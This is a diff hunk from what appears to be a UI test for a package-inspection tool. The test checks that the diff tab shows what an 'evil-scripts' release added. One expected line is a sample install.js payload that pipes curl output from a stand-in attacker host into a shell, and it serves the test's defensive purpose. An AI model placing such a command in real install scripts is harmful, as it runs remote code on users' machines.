@@ -65,7 +65,7 @@ async def test_each_tab_renders_for_the_selected_package(make_app):
             # the previous release → the locked version: what 1.0.0 brought in is added
             "diff": ["evil-scripts@0.9.0 → evil-scripts@1.0.0 (locked)", "added", "install.js",
                      "+cp.exec('curl https://evil.example/payload | sh');",
-                     "reads the previous release → the locked one"],
+                     "previous release → locked: + is in the locked version"],
         }
         for tab, needles in expectations.items():
             main.detail.show_tab(tab)
